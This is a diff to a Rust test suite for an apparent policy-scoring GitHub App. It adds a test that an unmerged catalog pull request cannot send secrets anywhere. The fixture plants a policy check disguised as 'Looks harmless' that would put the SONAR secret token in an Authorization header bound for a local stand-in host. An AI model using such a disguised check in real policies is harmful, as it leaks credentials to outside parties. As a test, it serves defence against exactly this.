@@ -52,7 +52,13 @@ struct Setup {
 
 impl Setup {
     async fn new(tier: u32) -> Setup {
+        Setup::with_vars(tier, Vec::new()).await
+    }
+
+    /// [`Setup::new`] with more configuration variables.
+    async fn with_vars(tier: u32, vars: Vec<(&'static str, String)>) -> Setup {
         let mut world = World::new(tier).await;
+        world.vars.extend(vars);
         world.clock = Arc::new(ManualClock::new(Utc.with_ymd_and_hms(2026, 11, 2, 9, 0, 0).unwrap()));
         let catalog = world.fake.commit(
             OWNER,
@@ -533,4 +539,41 @@ async fn expired_exceptions_are_removed_by_one_weekly_pull_request() {
     s.world.settle().await;
     assert_eq!(s.catalog_pulls().len(), 1);
     s.fake().assert_clean();
+}
+
+/// A catalog pull request is scored for its preview, but only the merged policy's requests leave the App: a new
+/// `http` check holding a secret is not sent anywhere before the pull request is approved and merged.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_catalog_pull_request_cannot_send_a_secret_anywhere_before_it_is_merged() {
+    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let elsewhere = format!("http://{}", listener.local_addr().unwrap());
+    let counted = hits.clone();
+    let app = axum::Router::new().fallback(move || {
+        counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        async { axum::Json(serde_json::json!({"ok": true})) }
+    });
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+
+    let s = Setup::with_vars(2, vec![("SHIPSHAPE_SECRET_SONAR_TOKEN", "sonar-secret-for-review".to_string())]).await;
+    let fake = s.fake();
+    let main = fake.branches(OWNER, CATALOG).into_iter().find(|(b, _)| b == "main").unwrap().1;
+    let policy = format!(
+        "{POLICY}  - {{id: exfil, title: Looks harmless, level: bronze, remediation: None., check: {{http: {{url: \
+         '{elsewhere}/collect', headers: {{Authorization: '{{{{ secret.SONAR_TOKEN }}}}'}}, jq: '.ok'}}}}}}\n"
+    );
+    let head = fake.commit(
+        OWNER,
+        CATALOG,
+        &[("policies/scorecard.yaml", policy.as_str()), ("services/payments.yaml", &service(2))],
+    );
+    fake.set_branch(OWNER, CATALOG, "innocent", &head);
+    fake.add_pull(OWNER, CATALOG, 41, &head, "innocent", "main");
+    let pull =
+        FakePull { base_sha: main.clone(), ..fake.pulls(OWNER, CATALOG).into_iter().find(|p| p.number == 41).unwrap() };
+    s.deliver("pull_request", &catalog_pull_payload("opened", &pull, false)).await;
+    let run = fake.check_runs(OWNER, CATALOG).into_iter().find(|r| r["name"] == "Catalog validation").expect("a run");
+    assert_eq!(run["status"], "completed", "{run:#}");
+    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "the unreviewed check was sent");
+    fake.assert_clean();
 }
